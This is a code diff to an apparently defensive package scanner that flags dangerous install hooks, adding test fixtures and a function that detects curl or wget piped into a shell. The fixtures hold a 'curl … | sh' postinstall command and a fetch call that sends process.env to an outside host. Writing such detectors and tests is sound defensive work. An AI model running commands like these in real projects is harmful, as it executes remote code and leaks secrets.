@@ -21,12 +21,16 @@ export default defineDetector({
     {
       title: 'it fetches something and runs it',
       matches: 1,
-      subject: packageSubject({ installs: [installStep('curl -s https://example.com/i.sh | sh')] }),
+      subject: packageSubject({
+        manifest: { scripts: { postinstall: 'curl -s https://example.com/i.sh | sh' } },
+        installs: [installStep('curl -s https://example.com/i.sh | sh')],
+      }),
     },
     {
       title: 'its code collects the environment and sends it away',
       matches: 1,
       subject: packageSubject({
+        manifest: { scripts: { postinstall: 'node install.js' } },
         installs: [
           installStep('node install.js', 'fetch("https://example.com", { body: JSON.stringify(process.env) })'),
         ],
@@ -70,7 +74,7 @@ function judged({ event, command, code }: InstallStep): Judged | undefined {
   const fetches = deeds.includes('fetches')
   const runs = deeds.includes('runs programs')
   if (
-    PIPED.test(command) ||
+    isPiped(command) ||
     deeds.includes('reads keys') ||
     (fetches && deeds.includes('reads the environment'))
   )
@@ -92,8 +96,13 @@ function judged({ event, command, code }: InstallStep): Judged | undefined {
   return { severity: 'low', message: `It runs code at installation (${event})` }
 }
 
-const PIPED =
-  /\b(?:curl|wget|iwr|irm)\b[^\n]{0,300}\|\s{0,9}(?:sudo\s{1,9})?(?:sh|bash|zsh|node|python3?|iex)\b/i
+/** `curl … | sh`, however much stands between. */
+function isPiped(command: string): boolean {
+  const parts = command.split('|')
+  const fetch = parts.findIndex((part) => /\b(?:curl|wget|iwr|irm)\b/i.test(part))
+  const run = /^\s{0,20}(?:sudo\s{1,9})?(?:sh|bash|zsh|node|python3?|iex)\b/i
+  return fetch >= 0 && parts.slice(fetch + 1).some((part) => run.test(part))
+}
 
 const DEEDS: readonly { readonly deed: string; readonly form: RegExp }[] = [
   { deed: 'fetches', form: /\b(?:curl|wget|fetch|https?\.(?:get|request)|axios|urllib|urlopen|requests\.(?:get|post)|XMLHttpRequest)\b/ },
